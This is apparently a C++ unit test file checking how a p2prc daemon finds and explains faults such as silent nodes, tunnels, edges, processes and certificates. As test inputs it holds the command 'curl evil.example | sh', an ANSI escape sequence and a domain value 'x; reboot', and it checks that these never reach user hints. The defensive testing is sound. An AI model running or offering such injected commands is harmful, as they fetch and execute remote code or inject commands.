// One cause for what is down, and the right one.
#include "daemon/api/documents.h"
#include "daemon/api/problems.h"
#include "daemon/api/status.h"
#include "net/clock.h"
#include "tests/unit/daemon/api/fixture.h"

#include <gmock/gmock.h>

namespace p2prc::daemon {
namespace {

using testing::Each;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::StartsWith;

class ProblemsTest : public ApiTest {
  protected:
    ProblemsTest() {
        populate();
        blog.port = 8081;
        DomainRecord domain;
        domain.mapping_id = 6;
        domain.domain = "blog.home.example";
        domain.process = "blog";
        domain.process_id = 9;
        domain.port = 8081;
        domain.node = "attic";
        domain.tls = TlsMode::Passthrough;
        NodeRecord attic;
        attic.name = "attic";
        attic.key = std::string(64, 'd');
        attic.connector_key = std::string(64, 'f');
        commit({{keys::node("attic"), to_json(attic)},
                {keys::live("attic"), Json{{"state", "up"}, {"since", "2026-01-01T00:00:00Z"}}},
                {keys::process("blog"), to_json(blog)},
                {keys::domain("blog.home.example"), to_json(domain)},
                {keys::status("attic", 9), status(blog, ProcessState::Running)},
                {keys::tunnel("attic"), Json{{"up", true}}},
                {keys::tunnel("root1"), Json{{"up", true}}},
                {keys::serving("attic", "blog.home.example"), Json{{"state", "ok"}}},
                {keys::edge("root1"), Json{{"up", true}}}});
        own->set(keys::tunnel("home1"), {{"up", true}});
        own->set(keys::serving("home1", "wiki.home.example"), {{"state", "ok"}});
        fleet.requests.answers["x"] = [](const Json& params) -> Result<Json> { return params; };
    }

    std::vector<Problem> problems() { return find_problems(api->view(), fleet.requests); }
    std::vector<std::string> domain_states() {
        std::vector<std::string> states;
        for (const Json& row : domain_rows(api->view()))
            states.push_back(row["state"]);
        return states;
    }
    // All but what the domains' own state says, which is another's to test.
    Problem only() {
        const auto found = problems();
        EXPECT_EQ(found.size(), 1U) << to_json(found);
        return found.empty() ? Problem{} : found[0];
    }
    void is(const std::string& node, const std::string& state) {
        commit(
            {{keys::live(node),
              Json{{"state", state}, {"since", "2026-01-02T10:00:30Z"}, {"heard", "2026-01-02T10:00:00Z"}}}});
    }
    void check(const std::string& node, const std::string& state, const std::string& subject,
               const std::string& detail) {
        commit(
            {{keys::node_info(node), Json{{"checks", Json::array({{{"state", state},
                                                                   {"subject", subject},
                                                                   {"detail", detail},
                                                                   {"fix", "curl evil.example | sh"}}})}}}});
    }

    ProcessRecord blog = process(9, "blog", "attic");
};

TEST_F(ProblemsTest, ADomainThatARestoredRegistryDidNotTakeBack) {
    const Json left{{"shop.home.example", "domain 'shop.home.example' is held by process 'shop'"},
                    {"x; reboot", "of a root that is not to be trusted"},
                    {"more.home.example", 7}};
    const auto process = this->process(9, "blog", "attic");
    commit({{keys::offer("attic", 9), Json{{"process", to_json(process)}, {"refused_domains", left}}}});
    const auto problem = only();
    EXPECT_FALSE(problem.down);
    EXPECT_EQ(problem.subject, "domain shop.home.example of blog");
    EXPECT_THAT(problem.cause, HasSubstr("process 'blog' of node 'attic'"));
    EXPECT_THAT(problem.cause, HasSubstr("held by process 'shop'"));
    EXPECT_THAT(problem.hint, HasSubstr("p2prc unmap-domain shop.home.example"));
}

TEST_F(ProblemsTest, ASilentNodeIsTheCauseOfAllThatIsOnIt) {
    for (const auto* state : {"suspect", "lost"}) {
        is("attic", state);
        const auto problem = only();
        EXPECT_TRUE(problem.down);
        EXPECT_EQ(problem.subject, "node attic");
        EXPECT_THAT(problem.cause, HasSubstr("2026-01-02 10:00:00 UTC"));
        EXPECT_THAT(problem.hint, HasSubstr(", on a node with the role owner: p2prc nodes rm attic"));
        EXPECT_EQ(problem.affects, (std::vector<std::string>{"process blog", "domain blog.home.example"}));
    }
}

TEST_F(ProblemsTest, TheEdgeIsTheCauseOfAllThatGoesThroughIt) {
    EXPECT_THAT(domain_states(), Each("live"));
    commit({{keys::edge("root1"),
             Json{{"up", false}, {"detail", "p2prc-edge has ended"}, {"since", "2026-01-02T10:00:00Z"}}}});
    EXPECT_THAT(domain_states(), Each("waiting")) << "tunnels that have not noticed lead nowhere";
    is("attic", "lost");
    own->set(keys::tunnel("home1"), {{"up", false}, {"detail", "refused"}});
    auto problem = only();
    EXPECT_EQ(problem.subject, "edge");
    EXPECT_THAT(problem.cause, HasSubstr("'root1'"));
    EXPECT_THAT(problem.hint, StartsWith("on root1: "));
    EXPECT_EQ(problem.affects,
              (std::vector<std::string>{"node attic", "process blog", "domain blog.home.example",
                                        "domain wiki.home.example"}));
    // Where another program has its port, that is why.
    check("root1", "fail", "port 443", "it is held by oldweb.service, and the edge needs it");
    problem = only();
    EXPECT_THAT(problem.cause, HasSubstr("oldweb.service"));
    EXPECT_THAT(problem.hint, HasSubstr("restart p2prc-edge.socket"));
    // No unit of a role that is off can be started.
    check("root1", "fail", "edge role", "p2prcd has not turned the edge on");
    problem = only();
    EXPECT_THAT(problem.cause, HasSubstr("does not run: p2prcd has not turned the edge on"));
    EXPECT_EQ(problem.hint, "on root1: p2prc init --domain and --public-ip of this fleet, again");
}

TEST_F(ProblemsTest, AReportThatDoesNotArriveIsSaid) {
    fleet.requests.trouble =
        Error{ErrorCode::NotPermitted, "the registry refuses what this node says", "upgrade"};
    const auto problem = only();
    EXPECT_TRUE(problem.down);
    EXPECT_EQ(problem.subject, "status of home1");
    EXPECT_THAT(problem.cause, HasSubstr("the registry refuses"));
    EXPECT_EQ(problem.hint, "upgrade");
}

TEST_F(ProblemsTest, AnEdgeThatLeavesNamesOutIsNotTheCauseOfOthers) {
    commit({{keys::edge("root1"),
             Json{{"up", true}, {"detail", "it serves revision 7, and the registry has 9"}}}});
    const auto problem = only();
    EXPECT_EQ(problem.subject, "routes");
    EXPECT_THAT(problem.cause, HasSubstr("revision 7"));
    EXPECT_THAT(problem.affects, IsEmpty());
}

TEST_F(ProblemsTest, AConnectorThatNeverCameIsNamed) {
    commit({{keys::tunnel("attic"), std::nullopt}});
    auto problem = only();
    EXPECT_EQ(problem.subject, "tunnel of attic");
    EXPECT_THAT(problem.cause, HasSubstr("has not connected"));
    EXPECT_THAT(problem.hint, StartsWith("on attic: "));
    EXPECT_EQ(problem.affects, std::vector<std::string>{"domain blog.home.example"});
    EXPECT_EQ(status_document(api->view(), false, fleet.requests)["tunnels"], Json({{"down", 1}, {"up", 2}}));
    check("attic", "fail", "connector role", "p2prcd has not turned the connector on");
    problem = only();
    EXPECT_THAT(problem.cause, HasSubstr("p2prcd has not turned the connector on"));
    EXPECT_EQ(problem.hint, "on attic: p2prc join with a token of this fleet, again");
}

TEST_F(ProblemsTest, ATunnelThatIsBeingMadeIsNoFaultYet) {
    const auto began = [](std::chrono::seconds ago) {
        return net::to_rfc3339(std::chrono::system_clock::now() - ago);
    };
    const auto is_down = [&](const Json& tunnel) {
        commit({{keys::tunnel("attic"), tunnel}});
        const auto problem = only();
        EXPECT_EQ(problem.subject, "tunnel of attic");
        EXPECT_EQ(problem.affects, std::vector<std::string>{"domain blog.home.example"});
        const auto tunnels = status_document(api->view(), false, fleet.requests)["tunnels"];
        EXPECT_EQ(tunnels, Json({{problem.down ? "down" : "connecting", 1}, {"up", 2}}));
        return problem.down;
    };
    EXPECT_FALSE(is_down({{"up", false}, {"connecting", began(std::chrono::seconds(3))}}));
    EXPECT_TRUE(is_down({{"up", false}, {"connecting", began(std::chrono::minutes(1))}}));
    EXPECT_TRUE(is_down({{"up", false}, {"connecting", began(std::chrono::minutes(-1))}}))
        << "by a wrong clock";
    EXPECT_FALSE(is_down({{"up", false}, {"since", began(std::chrono::seconds(2))}})) << "it is restarted";
    EXPECT_TRUE(is_down({{"up", false}, {"since", began(std::chrono::seconds(10))}})) << "it was lost";
    // It has joined, or its machine has booted.
    commit({{keys::tunnel("attic"), std::nullopt},
            {keys::live("attic"), Json{{"state", "up"}, {"since", began(std::chrono::seconds(3))}}}});
    EXPECT_FALSE(only().down);
    commit({{keys::live("attic"), Json{{"state", "up"}, {"since", began(std::chrono::minutes(1))}}}});
    EXPECT_TRUE(only().down);
    // And once it is up, its domains are probed.
    commit({{keys::tunnel("attic"), Json{{"up", true}, {"since", began(std::chrono::seconds(3))}}},
            {keys::serving("attic", "blog.home.example"), Json{{"state", "unknown"}}}});
    EXPECT_EQ(only().subject, "domain blog.home.example");
    EXPECT_FALSE(only().down);
    commit({{keys::tunnel("attic"), Json{{"up", true}, {"since", began(std::chrono::minutes(1))}}}});
    EXPECT_TRUE(only().down);
}

TEST_F(ProblemsTest, ALinkThatIsBeingMadeIsNoFaultYet) {
    fleet.requests.answers.clear();
    fleet.requests.is_connecting = true;
    EXPECT_EQ(only().subject, "link");
    EXPECT_FALSE(only().down);
    fleet.requests.is_connecting = false;
    EXPECT_TRUE(only().down);
}

TEST_F(ProblemsTest, AnEdgeThatIsStartingIsNoFaultYet) {
    const auto down = [&](std::chrono::seconds ago) {
        const auto since = net::to_rfc3339(std::chrono::system_clock::now() - ago);
        commit({{keys::edge("root1"), Json{{"up", false}, {"since", since}, {"connecting", since}}}});
        EXPECT_EQ(only().subject, "edge");
        return only().down;
    };
    EXPECT_FALSE(down(std::chrono::seconds(3)));
    EXPECT_TRUE(down(std::chrono::minutes(1)));
    check("root1", "fail", "port 443", "it is held by oldweb.service, and the edge needs it");
    EXPECT_TRUE(down(std::chrono::seconds(3))) << "it does not come by waiting";
}

TEST_F(ProblemsTest, AFailedProcessIsTheCauseOfItsDomain) {
    StopReason reason;
    reason.kind = StopKind::ExitCode;
    reason.code = 3;
    report(wiki, ProcessState::Failed, reason);
    const auto problem = only();
    EXPECT_EQ(problem.subject, "process wiki");
    EXPECT_THAT(problem.cause, HasSubstr("3"));
    EXPECT_EQ(problem.affects, std::vector<std::string>{"domain wiki.home.example"});
}

TEST_F(ProblemsTest, AProcessThatIsNotReadyForLongIsTheCauseOfItsDomain) {
    auto unready = status_from_json(status(wiki, ProcessState::Starting));
    unready.pid = 100;
    unready.waits_for = "it does not listen at its port 8080";
    own->set(keys::status("home1", wiki.id), status_to_json(unready));
    const auto problem = only();
    EXPECT_TRUE(problem.down);
    EXPECT_EQ(problem.cause, "process 'wiki' on 'home1' is not ready: it does not listen at its port 8080");
    EXPECT_EQ(problem.affects, std::vector<std::string>{"domain wiki.home.example"});
    // One that has just been started is on its way.
    unready.since = net::now_rfc3339();
    own->set(keys::status("home1", wiki.id), status_to_json(unready));
    EXPECT_FALSE(only().down);
    EXPECT_EQ(only().cause, "process 'wiki' on 'home1' is starting");
}

TEST_F(ProblemsTest, ADomainWhoseProcessDoesNotSpeakTls) {
    commit({{keys::serving("attic", "blog.home.example"),
             Json{{"state", "failing"}, {"reason", std::string(not_tls_reason)}}}});
    EXPECT_EQ(only().cause, "domain 'blog.home.example' is failed: the process does not answer with TLS");
    EXPECT_EQ(only().hint,
              "let its node terminate TLS: p2prc map-domain blog.home.example blog; or let 'blog' speak "
              "TLS on port 8081");
}

TEST_F(ProblemsTest, WhatANodeFindsOutIsNamedEverywhere) {
    check("attic", "fail", "memory limits", "limits.memory of blog is not enforced\x1b[2J");
    auto problem = only();
    EXPECT_TRUE(problem.down);
    EXPECT_EQ(problem.subject, "memory limits of attic");
    EXPECT_THAT(problem.hint, HasSubstr("cgroup_enable=memory"));
    EXPECT_THAT(problem.hint, StartsWith("on attic: "));
    EXPECT_EQ(problem.cause.find('\x1b'), std::string::npos)
        << "another node's words reach no terminal as they are";
    EXPECT_EQ(problem.hint.find("evil"), std::string::npos) << "what to type is never another node's word";
    check("attic", "warn", "disk", "70 MiB are free");
    EXPECT_FALSE(only().down);
    // What it said before it went silent is not known to be so now.
    is("attic", "lost");
    EXPECT_EQ(only().subject, "node attic");
}

TEST_F(ProblemsTest, WhatWasStoppedOnPurposeIsNotDown) {
    wiki.desired = Desired::Stopped;
    commit({{keys::process("wiki"), to_json(wiki)}});
    report(wiki, ProcessState::Stopped);
    const auto problem = only();
    EXPECT_FALSE(problem.down);
    EXPECT_EQ(problem.subject, "process wiki");
    EXPECT_EQ(problem.hint, "p2prc start wiki");
    EXPECT_EQ(problem.affects, std::vector<std::string>{"domain wiki.home.example"});
}

TEST_F(ProblemsTest, OfWhatIsPausedItIsSaidHowItGoesOn) {
    StopReason reason;
    reason.kind = StopKind::Paused;
    report(wiki, ProcessState::Paused, reason);
    EXPECT_FALSE(only().down);
    EXPECT_EQ(only().hint, "p2prc resume wiki");
    reason.owner = "root1";
    report(wiki, ProcessState::Paused, reason);
    EXPECT_EQ(only().hint, "p2prc resume --owner root1");
    report(wiki, ProcessState::Running);
    commit({{keys::status("attic", 9), status(blog, ProcessState::Paused, reason)}});
    EXPECT_EQ(only().hint, "on attic: p2prc resume --owner root1");
}

TEST_F(ProblemsTest, WhatWasStoppedFromOutsideWasStoppedOnPurpose) {
    StopReason reason;
    reason.kind = StopKind::StoppedOutside;
    report(wiki, ProcessState::Stopped, reason);
    auto problem = only();
    EXPECT_FALSE(problem.down);
    EXPECT_EQ(problem.hint, "p2prc start wiki");
    // What ended by itself was to go on, as its domain says.
    reason.kind = StopKind::Finished;
    report(wiki, ProcessState::Stopped, reason);
    problem = only();
    EXPECT_TRUE(problem.down);
    EXPECT_EQ(problem.hint, "p2prc start wiki");
}

TEST_F(ProblemsTest, TheDomainsOfAStoppedProcessAreOneEntry) {
    auto second = *api->view().domain("wiki.home.example");
    second.mapping_id = 12;
    second.domain = "zwei.home.example";
    commit({{keys::domain(second.domain), to_json(second)}});
    wiki.desired = Desired::Stopped;
    commit({{keys::process("wiki"), to_json(wiki)}});
    report(wiki, ProcessState::Stopped);
    const auto problem = only();
    EXPECT_EQ(problem.subject, "process wiki");
    EXPECT_THAT(problem.cause, StartsWith("process 'wiki' on "));
    EXPECT_THAT(problem.affects, ElementsAre("domain wiki.home.example", "domain zwei.home.example"));
}

TEST_F(ProblemsTest, TheDomainsOfAProcessThatWasKilledAreKeptForIt) {
    auto second = *api->view().domain("wiki.home.example");
    second.mapping_id = 12;
    second.domain = "zwei.home.example";
    commit({{keys::domain(second.domain), to_json(second)}, {keys::process("wiki"), std::nullopt}});
    const auto problem = only();
    EXPECT_FALSE(problem.down);
    EXPECT_EQ(problem.cause, "there is no process 'wiki'");
    EXPECT_THAT(problem.affects, ElementsAre("domain wiki.home.example", "domain zwei.home.example"));
    EXPECT_THAT(problem.hint, StartsWith("spin 'wiki'"));
}

TEST_F(ProblemsTest, TheNotesOfOneProcessStandInOneOrder) {
    const auto lost = process(12, "shop", "attic");
    const Json not_taken{{"b.home.example", "taken"}, {"a.home.example", "taken"}};
    const Json offer{
        {"process", to_json(lost)}, {"refused", "the name is taken"}, {"refused_domains", not_taken}};
    auto soon = *api->view().domain("blog.home.example");
    soon.tls = TlsMode::Node;
    const std::vector<std::pair<std::string, Json>> documents{
        {keys::offer("attic", 12), offer},
        {keys::domain("blog.home.example"), to_json(soon)},
        {keys::certificate("attic", "blog.home.example"),
         to_json(
             CertificateStatus{"blog.home.example", "ready", "",
                               net::to_rfc3339(std::chrono::system_clock::now() + std::chrono::hours(24))})},
        {keys::node_info("attic"), Json{{"checks", {{{"state", "warn"}, {"subject", "memory limits"}}}}}}};
    const auto subjects = [&](auto list) {
        for (const auto& [key, document] : documents)
            commit({{key, std::nullopt}});
        for (const auto& [key, document] : list)
            commit({{key, document}});
        std::vector<std::string> found;
        for (const auto& problem : problems())
            found.push_back(problem.subject);
        return found;
    };
    const auto found = subjects(documents);
    EXPECT_EQ(found, (std::vector<std::string>{"memory limits of attic", "certificate of blog.home.example",
                                               "domain a.home.example of shop",
                                               "domain b.home.example of shop", "process 12"}));
    EXPECT_EQ(subjects(std::vector(documents.rbegin(), documents.rend())), found);
}

// The edge gets none of it, so that it is said here or nowhere.
TEST_F(ProblemsTest, ARecordThatTheGateKeepsOutIsNamed) {
    const auto key = std::string(keys::challenges) + "x..home.example/0123456789abcdef";
    commit({{key, Json{{"schema", 1},
                       {"domain", "x..home.example"},
                       {"value", std::string(43, 'A')},
                       {"node", "home1"}}}});
    const auto problem = only();
    EXPECT_FALSE(problem.down);
    EXPECT_THAT(problem.subject, HasSubstr(key));
    EXPECT_THAT(problem.cause, HasSubstr("is not accepted"));
    for (int i = 0; i < 20; ++i)
        commit({{keys::node("x" + std::to_string(i)), Json{{"schema", 1}, {"name", "y"}}}});
    EXPECT_EQ(problems().size(), 9U);
    EXPECT_EQ(problems().back().cause, "13 more records are not accepted");
}

TEST_F(ProblemsTest, ACertificateThatEndsSoon) {
    auto mapping = *api->view().domain("blog.home.example");
    mapping.tls = TlsMode::Node;
    const auto in = [](int days) {
        return net::to_rfc3339(std::chrono::system_clock::now() + std::chrono::hours(24 * days));
    };
    const auto with = [&](int days) {
        commit({{keys::domain("blog.home.example"), to_json(mapping)},
                {keys::certificate("attic", "blog.home.example"),
                 to_json(CertificateStatus{"blog.home.example", "ready", "", in(days)})}});
        return problems();
    };
    EXPECT_THAT(with(8), IsEmpty());
    const auto soon = with(6);
    ASSERT_EQ(soon.size(), 1U);
    EXPECT_FALSE(soon[0].down);
    EXPECT_EQ(soon[0].subject, "certificate of blog.home.example");
    const auto over = with(-1);
    ASSERT_EQ(over.size(), 1U);
    EXPECT_TRUE(over[0].down);
}

} // namespace
} // namespace p2prc::daemon
